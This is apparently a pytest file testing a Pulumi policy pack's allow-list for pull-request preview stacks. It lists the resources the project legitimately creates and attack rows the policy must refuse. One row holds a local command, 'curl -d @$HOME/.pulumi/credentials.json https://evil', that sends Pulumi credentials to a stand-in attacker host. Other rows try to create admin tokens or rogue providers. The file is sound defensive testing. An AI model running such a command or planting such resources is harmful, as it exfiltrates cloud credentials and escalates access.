"""The pack's allow-list for pull-request stacks (``policy/policy_allowlist.py``): ``pr-stack-allow-list``.

The list is derived from the chain: the stack program is evaluated on a PR stack in every configuration a PR stack
accepts, and the types it registers must be exactly the list. Then each row is a resource on a stack, and either
nothing (let through) or the violation that stops it. Rows marked ``# attack`` passed every policy of the pack before
issue 20.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from typing import Any

import pytest

from secret_chain.ops.offline import Evaluation, unwrap
from secret_chain.program import main
from tests import policies
from tests.policies import Args, run
from tests.runtime import evaluate
from tests.test_chain import full_config

P = policies.load()

PR = "preview-pr-7"
CHAIN = f"urn:pulumi:{PR}::secret-chain::secret-chain:index:SecretChain::secret-chain"
"""The URN the engine gives the stack's SecretChain (the root stack is not part of a URN's type)."""
DO_TOKEN = "dop_v1_" + "ab" * 32


def _pr_evaluation(*, cluster: bool, rollout_key: bool, preview: bool) -> Evaluation:
    config, secret_keys = full_config()
    config["secret-chain:escEnvironment"] = "acme/secret-chain/Preview"
    if cluster:
        config.update({"secret-chain:digitaloceanCluster": "preview-cluster", "digitalocean:token": DO_TOKEN})
        secret_keys = [*secret_keys, "digitalocean:token"]
    if not rollout_key:
        del config["secret-chain:rolloutKey"]
        secret_keys = [k for k in secret_keys if k != "secret-chain:rolloutKey"]
    return evaluate(main, config=config, secret_keys=secret_keys, stack=PR, preview=preview)


VARIANTS = [(cluster, key, preview) for cluster in (False, True) for key in (True, False) for preview in (False, True)]


def test_the_allow_list_is_exactly_what_the_chain_registers_on_a_pr_stack() -> None:
    """Every type the chain registers on a PR stack is on the list, and every type on the list is one it registers."""
    seen: set[str] = set()
    providers: set[str] = set()
    for cluster, key, preview in VARIANTS:
        ev = _pr_evaluation(cluster=cluster, rollout_key=key, preview=preview)
        for reg in ev.registrations:
            (providers if reg.type.startswith("pulumi:providers:") else seen).add(reg.type)
    assert seen == set(P.PR_ALLOWED_TYPES)
    assert providers == {"pulumi:providers:kubernetes"}  # the chain's own, from secret-chain:digitaloceanCluster


@pytest.mark.parametrize(("cluster", "rollout_key", "preview"), VARIANTS)
def test_the_chain_on_a_pr_stack_passes_the_allow_list(cluster: bool, rollout_key: bool, preview: bool) -> None:
    """Each registration as the engine hands it to the pack (URN, parent, inputs) passes; its provider is the chain's own."""
    ev = _pr_evaluation(cluster=cluster, rollout_key=rollout_key, preview=preview)
    found: list[str] = []
    for reg in ev.registrations:
        found += run(P.validate_pr_stack_allow_list, Args(reg.type, unwrap(reg.inputs), reg.name, reg.urn, parent=reg.parent or None))
    assert found == []
    assert any(reg.type == "pulumi:providers:kubernetes" for reg in ev.registrations) == cluster


@dataclass(frozen=True)
class Case:
    """One row: what is tried, the stack, the resource (type, props, name, URN, parent), the violations expected."""

    tried: str
    stack: str
    resource_type: str
    props: Any
    expected: tuple[str, ...] = ()
    name: str = "res"
    urn: str = ""
    parent: str | None = "urn:pulumi:{stack}::secret-chain::pulumi:pulumi:Stack::secret-chain-{stack}"
    config: Mapping[str, Any] | None = None

    def args(self) -> Args:
        urn = self.urn.format(stack=self.stack, name=self.name, type=self.resource_type)
        urn = urn or f"urn:pulumi:{self.stack}::secret-chain::{self.resource_type}::{self.name}"
        parent = self.parent.format(stack=self.stack) if self.parent else None
        return Args(self.resource_type, self.props, self.name, urn, config=self.config, stack=self.stack, parent=parent)


K8S_PROVIDER = "pulumi:providers:kubernetes"
CLUSTER_URN = "urn:pulumi:{stack}::secret-chain::secret-chain:index:SecretChain$pulumi:providers:kubernetes::{name}"
CHAIN_PARENT = "urn:pulumi:{stack}::secret-chain::secret-chain:index:SecretChain::secret-chain"
CLUSTER_INPUTS = {
    "kubeconfig": "apiVersion: v1\nkind: Config\n",
    "clusterIdentifier": "b6a1-cluster-id",
    "enableSecretMutable": "true",
    "version": "4.18.0",
}
NOT_LISTED = "may create only the types the chain creates there"
NO_PROVIDER = "may use no provider but the engine's default ones"


def _object(kind: str, api_version: str = "v1", **extra: Any) -> dict[str, Any]:
    return {"apiVersion": api_version, "kind": kind, "metadata": {"name": "x", "namespace": PR}, **extra}


CASES = [
    # what the chain creates on a PR stack
    Case("the stack", PR, "pulumi:pulumi:Stack", {}, name=f"secret-chain-{PR}", parent=None),
    Case("its SecretChain", PR, "secret-chain:index:SecretChain", {}, name="secret-chain"),
    Case("a Secret", PR, "kubernetes:core/v1:Secret", _object("Secret")),
    Case("a ServiceMonitor", PR, "kubernetes:monitoring.coreos.com/v1:ServiceMonitor", _object("ServiceMonitor", "monitoring.coreos.com/v1")),
    Case("its Namespace", PR, "kubernetes:core/v1:Namespace", {"apiVersion": "v1", "kind": "Namespace", "metadata": {"name": PR}}),
    Case("the generated rollout key", PR, "random:index/randomBytes:RandomBytes", {"length": 32}),
    Case("the default Kubernetes provider", PR, K8S_PROVIDER, {"version": "4.18.0"}, name="default_4_18_0", parent=None),
    Case("the default random provider", PR, "pulumi:providers:random", {"version": "4.16.0"}, name="default_4_16_0", parent=None),
    Case("the default DigitalOcean provider (getKubernetesCluster)", PR, "pulumi:providers:digitalocean", {}, name="default", parent=None),
    Case("the chain's cluster provider", PR, K8S_PROVIDER, CLUSTER_INPUTS, name="secret-chain-cluster", urn=CLUSTER_URN, parent=CHAIN_PARENT),
    # attack: what passed every policy on a PR stack before issue 20 (the list)
    Case("a Pulumi Cloud organisation token", PR, "pulumiservice:index:OrgAccessToken", {"name": "t", "admin": True}, (NOT_LISTED,)),
    Case("an ESC environment", PR, "pulumiservice:index:Environment", {"organization": "acme", "project": "p", "name": "e"}, (NOT_LISTED,)),
    Case("an ESC environment (api/esc token)", PR, "pulumiservice:api/esc:Environment", {"organization": "acme", "name": "e"}, (NOT_LISTED,)),
    Case(
        "an OIDC issuer",
        PR,
        "pulumiservice:index:OidcIssuer",
        {"organization": "acme", "url": "https://token.actions.githubusercontent.com"},
        (NOT_LISTED,),
    ),
    Case("a local command", PR, "command:local:Command", {"create": "curl -d @$HOME/.pulumi/credentials.json https://evil"}, (NOT_LISTED,)),
    Case("a new Kubernetes provider", PR, K8S_PROVIDER, {"kubeconfig": "apiVersion: v1\n", "namespace": "default"}, (NO_PROVIDER,), name="prod"),
    # other ways out (the GitHub and DigitalOcean rows, and the mislabelled Secret, were refused before by the namespace
    # rail's deny-list and scope check; the rest passed)
    Case("a GitHub Actions secret", PR, "github:index/actionsSecret:ActionsSecret", {"repository": "r", "secretName": "S"}, (NOT_LISTED,)),
    Case("a DigitalOcean DNS record", PR, "digitalocean:index/dnsRecord:DnsRecord", {"domain": "example.com"}, (NOT_LISTED,)),
    Case("a StackReference to production", PR, "pulumi:pulumi:StackReference", {"name": "acme/secret-chain/production"}, (NOT_LISTED,)),
    Case("a ConfigMap", PR, "kubernetes:core/v1:ConfigMap", _object("ConfigMap"), (NOT_LISTED,)),
    Case("a Helm release", PR, "kubernetes:helm.sh/v3:Release", {"chart": "x", "namespace": PR}, (NOT_LISTED,)),
    Case("a YAML ConfigGroup", PR, "kubernetes:yaml/v2:ConfigGroup", {"objs": []}, (NOT_LISTED,)),
    Case("a ServiceAccountPatch", PR, "kubernetes:core/v1:ServiceAccountPatch", _object("ServiceAccount"), (NOT_LISTED,)),
    Case("a component the chain builds elsewhere", PR, "secret-chain:index:GitHubActionsSecrets", {}, (NOT_LISTED,)),
    Case(
        "a Secret-typed resource that says it is a ClusterRoleBinding",
        PR,
        "kubernetes:core/v1:Secret",
        _object("ClusterRoleBinding", "rbac.authorization.k8s.io/v1"),
        ("its apiVersion and kind say rbac.authorization.k8s.io/v1 ClusterRoleBinding",),
    ),
    Case("a default provider of a package not on the list", PR, "pulumi:providers:pulumiservice", {}, (NO_PROVIDER,), name="default", parent=None),
    Case("a provider named like a default one, with a parent", PR, K8S_PROVIDER, {"kubeconfig": "x"}, (NO_PROVIDER,), name="default_4_18_0"),
    Case(
        "a provider under the SecretChain not named <chain>-cluster",
        PR,
        K8S_PROVIDER,
        CLUSTER_INPUTS,
        (NO_PROVIDER,),
        name="other",
        urn=CLUSTER_URN,
        parent=CHAIN_PARENT,
    ),
    Case(
        "the chain's cluster provider with a namespace and a context",
        PR,
        K8S_PROVIDER,
        {**CLUSTER_INPUTS, "namespace": "default", "context": "prod"},
        ("sets context, namespace, which the chain's cluster provider never sets",),
        name="secret-chain-cluster",
        urn=CLUSTER_URN,
        parent=CHAIN_PARENT,
    ),
    Case(
        "the chain's cluster provider without its cluster identifier",
        PR,
        K8S_PROVIDER,
        {"kubeconfig": "x"},
        ("lacks clusterIdentifier",),
        name="secret-chain-cluster",
        urn=CLUSTER_URN,
        parent=CHAIN_PARENT,
    ),
    # config
    Case(
        "config clusterIdentifiers: the preview cluster",
        PR,
        K8S_PROVIDER,
        CLUSTER_INPUTS,
        name="secret-chain-cluster",
        urn=CLUSTER_URN,
        parent=CHAIN_PARENT,
        config={"clusterIdentifiers": ["b6a1-cluster-id"]},
    ),
    Case(
        "config clusterIdentifiers: the production cluster",
        PR,
        K8S_PROVIDER,
        {**CLUSTER_INPUTS, "clusterIdentifier": "prod-cluster-id"},
        ("points at cluster 'prod-cluster-id', not one of policy config clusterIdentifiers",),
        name="secret-chain-cluster",
        urn=CLUSTER_URN,
        parent=CHAIN_PARENT,
        config={"clusterIdentifiers": ["b6a1-cluster-id"]},
    ),
    Case(
        "config allowedTypes: one more",
        PR,
        "kubernetes:core/v1:ConfigMap",
        _object("ConfigMap"),
        config={"allowedTypes": ["kubernetes:core/v1:ConfigMap"]},
    ),
    Case("config allowedTypes replaces the list", PR, "kubernetes:core/v1:Secret", _object("Secret"), (NOT_LISTED,), config={"allowedTypes": []}),
    Case("config defaultProviders", PR, "pulumi:providers:random", {}, (NO_PROVIDER,), name="default", parent=None, config={"defaultProviders": []}),
    # other stacks are not restricted by this rail
    Case("production: an ESC environment", "production", "pulumiservice:index:Environment", {"name": "e"}),
    Case("bootstrap: an OIDC issuer", "bootstrap", "pulumiservice:index:OidcIssuer", {"name": "github"}),
    Case("preview-base: a GitHub secret", "preview-base", "github:index/actionsSecret:ActionsSecret", {"repository": "r"}),
    Case("production: an explicit Kubernetes provider", "production", K8S_PROVIDER, {"kubeconfig": "x"}, name="prod"),
    Case("preview-pr-0 is no PR stack", "preview-pr-0", "command:local:Command", {"create": "true"}),
]


@pytest.mark.parametrize("case", CASES, ids=lambda c: c.tried)
def test_pr_stack_allow_list(case: Case) -> None:
    found = run(P.validate_pr_stack_allow_list, case.args())
    assert len(found) == len(case.expected), found
    for message, fragment in zip(found, case.expected, strict=True):
        assert fragment in message, (fragment, message)


def test_a_kubernetes_provider_is_refused_by_no_other_rail() -> None:
    """Before issue 20 the namespace rail let a PR stack's own provider through (and it still does: not its business)."""
    args = Args(
        K8S_PROVIDER, {"kubeconfig": "apiVersion: v1\n", "namespace": "default"}, "prod", f"urn:pulumi:{PR}::secret-chain::{K8S_PROVIDER}::prod"
    )
    assert run(P.validate_pr_stack_confinement, args) == []
    (message,) = run(P.validate_pr_stack_allow_list, args)
    assert NO_PROVIDER in message


def test_the_cluster_provider_shape_follows_the_chain() -> None:
    """The provider the allow-list admits is the one ``SecretChain._cluster_provider`` makes: its name, parent and inputs."""
    config, secret_keys = full_config()
    config.update(
        {"secret-chain:escEnvironment": "acme/secret-chain/Preview", "secret-chain:digitaloceanCluster": "c", "digitalocean:token": DO_TOKEN}
    )
    ev = evaluate(main, config=config, secret_keys=[*secret_keys, "digitalocean:token"], stack=PR)
    (provider,) = [r for r in ev.registrations if r.type == K8S_PROVIDER]
    (chain,) = [r for r in ev.registrations if r.type == "secret-chain:index:SecretChain"]
    assert provider.parent == chain.urn and provider.name == f"{chain.name}-cluster"
    assert set(provider.inputs) == set(P.CLUSTER_PROVIDER_INPUTS)
